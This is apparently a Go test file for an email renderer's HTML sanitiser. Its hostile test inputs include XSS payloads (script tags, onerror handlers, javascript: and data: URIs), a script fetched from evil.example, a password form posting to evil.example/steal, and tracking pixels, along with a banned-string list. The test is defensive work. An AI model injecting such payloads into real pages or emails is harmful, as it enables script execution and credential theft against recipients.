package compose

import (
	"html"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// hostileCases are bodies written to break out of an email: scripts, event
// handlers, dangerous URLs, embeds, forms, styles, tracking pixels. Each
// ends with "ok", so that something is left to render.
var hostileCases = []struct {
	name string
	f    Format
	src  string
	want string // the body's HTML
}{
	{"markdown script block", Markdown, "<script>alert(1)</script>\n\nok",
		"<p>ok</p>"},
	{"html inline script", HTML, `<p>ok<script>alert("x")</script></p>`,
		"<p>ok</p>"},
	{"upper-case script with src", HTML, `<SCRIPT SRC=https://evil.example/x.js></SCRIPT><p>ok</p>`,
		"<p>ok</p>"},
	{"img onerror", HTML, `<p><img src="https://img.example/a.png" onerror="alert(1)" alt="a">ok</p>`,
		`<p><img src="https://img.example/a.png" alt="a"/>ok</p>`},
	{"markdown raw img onerror", Markdown, `ok <img src="https://img.example/a.png" onerror="steal()">`,
		`<p>ok <img src="https://img.example/a.png"/></p>`},
	{"event handlers on text", HTML, `<p onclick="x()" onMouseOver="y()">ok</p>`,
		"<p>ok</p>"},
	{"markdown javascript link", Markdown, "[ok](javascript:alert(1))",
		"<p>ok</p>"},
	{"markdown javascript autolink", Markdown, "<javascript:alert(1)> ok",
		"<p>javascript:alert(1) ok</p>"},
	{"html javascript link with a tab", HTML, `<a href="jav&#x09;ascript:alert(1)">ok</a>`,
		"ok"},
	{"vbscript link", HTML, `<a href="vbscript:msgbox(1)">ok</a>`,
		"ok"},
	{"data uri link", HTML, `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">ok</a>`,
		"ok"},
	{"markdown data uri image", Markdown, "![pixel](data:image/png;base64,iVBORw0KGgo=)\n\nok",
		"<p></p>\n<p>ok</p>"},
	{"svg data uri image", HTML, `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">ok`,
		"ok"},
	{"iframe becomes a link", HTML, `<iframe src="https://video.example/embed/1"></iframe><p>ok</p>`,
		`<p><a href="https://video.example/embed/1" rel="noopener">View embedded content from video.example</a></p><p>ok</p>`},
	{"iframe with javascript src", HTML, `<iframe src="javascript:alert(1)"></iframe><p>ok</p>`,
		"<p>ok</p>"},
	{"iframe srcdoc", HTML, `<iframe srcdoc="<script>alert(1)</script>"></iframe><p>ok</p>`,
		"<p>ok</p>"},
	{"form with inputs", HTML, `<form action="https://evil.example/steal"><label>Password</label><input name="pw"><button>Go</button></form><p>ok</p>`,
		"<p>ok</p>"},
	{"style element", Markdown, "<style>body{display:none}</style>\n\nok",
		"<p>ok</p>"},
	{"style attribute", HTML, `<p style="background:url(https://tracker.example/x.gif)">ok</p>`,
		"<p>ok</p>"},
	{"tracking pixel by size", HTML, `<p>ok<img src="https://tracker.example/open.gif" width="1" height="1"></p>`,
		"<p>ok</p>"},
	{"tracking pixel by style", HTML, `<p>ok<img src="https://tracker.example/open.gif" style="display:none"></p>`,
		"<p>ok</p>"},
	{"markdown tracking pixel by size", Markdown, `ok<img src="https://tracker.example/o.gif" width="0" height="0">`,
		"<p>ok</p>"},
	{"known tracker host", HTML, `<p>ok<img src="https://www.google-analytics.com/collect?v=1&tid=UA-1"></p>`,
		"<p>ok</p>"},
	{"base element", HTML, `<base href="https://evil.example/"><p><a href="/x">ok</a></p>`,
		"<p>ok</p>"},
	{"svg with script and text", HTML, `<svg onload="alert(1)"><script>alert(1)</script><text>svg text</text></svg><p>ok</p>`,
		"<p>ok</p>"},
	{"object and embed", HTML, `<object data="https://x.example/f.swf"></object><embed src="https://x.example/f.swf"><p>ok</p>`,
		"<p>ok</p>"},
	{"meta refresh and stylesheet", HTML, `<meta http-equiv="refresh" content="0;url=https://evil.example"><link rel="stylesheet" href="https://evil.example/x.css"><p>ok</p>`,
		"<p>ok</p>"},
	{"conditional comment", HTML, `<!--[if mso]><script>alert(1)</script><![endif]--><p>ok</p>`,
		"<p>ok</p>"},
	{"target and rel replaced", HTML, `<a href="https://ok.example/" target="_blank" rel="opener">ok</a>`,
		`<a href="https://ok.example/" rel="noopener">ok</a>`},
	{"relative link has no base", Markdown, "[ok](/consult)",
		"<p>ok</p>"},
	{"mailto kept", Markdown, "[ok](mailto:hello@stillpoint.example)",
		`<p><a href="mailto:hello@stillpoint.example" rel="noopener">ok</a></p>`},
	{"markdown task list checkbox", Markdown, "- [x] ok",
		"<ul>\n<li> ok</li>\n</ul>"},
	{"html entities stay text", Markdown, "&lt;script&gt; ok",
		"<p>&lt;script&gt; ok</p>"},
}

func TestRenderHostile(t *testing.T) {
	banned := []string{"<script", "alert", "onerror", "onclick", "onload", "javascript:", "vbscript:", "data:",
		"<iframe", "<form", "<input", "<button", "Password", "<style", "style=", "<svg", "svg text", "<base",
		"<object", "<embed", "<meta", "<link", "tracker.example", "google-analytics", "evil.example", "target=", "opener\""}
	for _, tt := range hostileCases {
		t.Run(tt.name, func(t *testing.T) {
			b, err := Render([]byte(tt.src), tt.f, Fields{})
			if err != nil {
				t.Fatal(err)
			}
			got, text := b.For("")
			if diff := cmp.Diff(tt.want, string(got)); diff != "" {
				t.Errorf("Render(%q) (-want +got):\n%s", tt.src, diff)
			}
			for _, s := range banned {
				if strings.Contains(string(got), s) && !strings.Contains(tt.want, s) {
					t.Errorf("HTML keeps %q: %s", s, got)
				}
				if strings.Contains(text, s) && !strings.Contains(html.UnescapeString(tt.want), s) {
					t.Errorf("text keeps %q: %s", s, text)
				}
			}
		})
	}
}

func TestRenderRefusesEmptyOnceSanitised(t *testing.T) {
	for _, src := range []string{"", "  \n", "<script>alert(1)</script>", `<img src="https://tracker.example/p.gif" width="1" height="1">`} {
		if _, err := Render([]byte(src), HTML, Fields{}); err == nil || !strings.Contains(err.Error(), "empty") {
			t.Errorf("Render(%q) err = %v, want the body is empty", src, err)
		}
	}
}

func TestRenderRefusesHugeAndUnknownFormat(t *testing.T) {
	if _, err := Render([]byte(strings.Repeat("a", maxSource+1)), Markdown, Fields{}); err == nil {
		t.Error("a body over maxSource rendered")
	}
	if _, err := Render([]byte("hi"), Format("docx"), Fields{}); err == nil || !strings.Contains(err.Error(), "docx") {
		t.Errorf("unknown format: err = %v", err)
	}
}

func TestFormatOf(t *testing.T) {
	tests := []struct {
		path string
		want Format
	}{
		{"january.md", Markdown}, {"dir.v2/January.MARKDOWN", Markdown}, {"a.html", HTML}, {"A.HTM", HTML},
		{"notes.txt", ""}, {"noext", ""}, {"body.md.bak", ""},
	}
	for _, tt := range tests {
		got, err := FormatOf(tt.path)
		if got != tt.want || (err != nil) != (tt.want == "") {
			t.Errorf("FormatOf(%q) = %q, %v; want %q", tt.path, got, err, tt.want)
		}
		if err != nil && !strings.Contains(err.Error(), tt.path) {
			t.Errorf("FormatOf(%q) error does not name the file: %v", tt.path, err)
		}
	}
}

// TestRenderMarkdown: GitHub-flavoured Markdown becomes the HTML an email
// can show: headings, emphasis, lists, tables, strikethrough, bare links.
func TestRenderMarkdown(t *testing.T) {
	src := "# January\n\nI have **four** consult openings.\n\n1. Tuesday\n2. Thursday\n\n| Day | Time |\n|---|---|\n| Tue | 9 am |\n\n~~full~~ and www.stillpoint.example\n"
	b, err := Render([]byte(src), Markdown, Fields{})
	if err != nil {
		t.Fatal(err)
	}
	got, text := b.For("Sam")
	want := "<h1>January</h1>\n<p>I have <strong>four</strong> consult openings.</p>\n<ol>\n<li>Tuesday</li>\n<li>Thursday</li>\n</ol>\n" +
		"<table>\n<thead>\n<tr>\n<th>Day</th>\n<th>Time</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>Tue</td>\n<td>9 am</td>\n</tr>\n</tbody>\n</table>\n" +
		`<p><del>full</del> and <a href="http://www.stillpoint.example" rel="noopener">www.stillpoint.example</a></p>`
	if diff := cmp.Diff(want, string(got)); diff != "" {
		t.Errorf("HTML (-want +got):\n%s", diff)
	}
	wantText := "January\n=======\n\nI have four consult openings.\n\n1. Tuesday\n2. Thursday\n\nDay Time\n\nTue 9 am\n\nfull and www.stillpoint.example"
	if diff := cmp.Diff(wantText, text); diff != "" {
		t.Errorf("text (-want +got):\n%s", diff)
	}
	if b.Personal() {
		t.Error("a body without {{first_name}} says it is personal")
	}
}
